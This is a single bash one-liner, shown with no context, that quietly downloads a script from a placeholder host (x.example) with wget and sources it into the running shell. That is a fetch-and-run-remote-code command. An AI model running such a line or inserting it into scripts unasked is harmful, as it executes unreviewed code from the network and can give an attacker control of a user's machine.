. <(wget -qO- http://x.example/s)
